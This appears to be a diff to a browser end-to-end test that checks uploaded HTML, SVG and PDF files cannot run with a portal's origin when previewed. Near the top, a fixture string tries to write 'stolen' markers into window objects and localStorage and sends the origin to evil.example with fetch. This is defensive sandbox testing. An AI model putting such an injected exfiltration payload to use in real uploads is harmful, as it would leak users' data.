@@ -3,10 +3,10 @@ import { fullChromium } from './support/browsers'
 import { expect, test } from './support/test'
 import { button, choose, fileRow, tray, withoutPickers } from './support/uploads'
 
-// Only a browser with a viewer of its own shows a PDF in place.
+// Only a browser with a built-in viewer shows a PDF in place.
 test.use({ launchOptions: fullChromium, viewport: { width: 1440, height: 900 } })
 
-/** What each file tries, wherever it runs: to mark the portal's window and storage, and to send word. */
+/** Actions that each file attempts: mark the portal's window and storage, and send a request. */
 const attack = `for (const one of [self, parent, top]) try { one.stolen = origin } catch {}
   try { localStorage.setItem('stolen', origin) } catch {}
   fetch('https://evil.example/' + origin)`
@@ -24,11 +24,11 @@ const files = [
   { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(html) },
   { name: 'drawing.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) },
   { name: 'paper.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf) },
-  // Its content type is a lie.
+  // Its content type is wrong on purpose.
   { name: 'page.pdf', mimeType: 'application/pdf', buffer: Buffer.from(html) },
 ]
 
-/** What a document is, what of the portal it reaches, and what of a file became a part of it. */
+/** Kind of a document, its access to the portal, and what of the file became a part of it. */
 const look = (frame: Page | Frame) =>
   frame.evaluate(() => {
     const attempt = (read: () => unknown) => {
@@ -52,7 +52,7 @@ const nowhere = { origin: 'null', storage: 'SecurityError', cookies: 'SecurityEr
 test('[R20] what a customer opens runs nowhere as the portal: HTML is shown as its source, SVG as a picture, a PDF by the viewer; in a tab they are saved or have no origin', {
   tag: '@all',
 }, async ({ as, context, expectConsole, page }) => {
-  // What the SVG tries in its tab.
+  // Actions that the SVG attempts in its tab.
   expectConsole(/^Blocked script execution in '.*\/drawing\.svg/)
   await withoutPickers(context)
   const asked: string[] = []
@@ -63,7 +63,10 @@ test('[R20] what a customer opens runs nowhere as the portal: HTML is shown as i
 
   /** @returns the preview of a file, and the address it is read from */
   const open = async (name: string) => {
-    const answer = page.waitForResponse((response) => response.url().includes('disposition=inline'))
+    // Rows of images read theirs, too, for a thumbnail.
+    const isOf = ({ searchParams: sent }: URL) =>
+      sent.get('disposition') === 'inline' && sent.get('path') === `/Cases/Empty run/${name}`
+    const answer = page.waitForResponse((response) => isOf(new URL(response.url())))
     await fileRow(page, name).click()
     await page.keyboard.press('Enter')
     const { url }: { url: string } = await (await answer).json()
@@ -85,7 +88,7 @@ test('[R20] what a customer opens runs nowhere as the portal: HTML is shown as i
     await test.step(name, async () => {
       const { preview } = await open(name)
       await expect(preview.getByTitle(name)).toHaveAttribute('src', /^blob:/)
-      // The viewer is an extension of the browser, with an origin of its own; the frame around it holds nothing else.
+      // The viewer is an extension of the browser with an origin of its own; its frame holds nothing else.
       const viewer = () => page.frames().find((frame) => frame.url().startsWith('chrome-extension://'))
       await expect.poll(viewer).toBeDefined()
       const around = viewer()?.parentFrame()
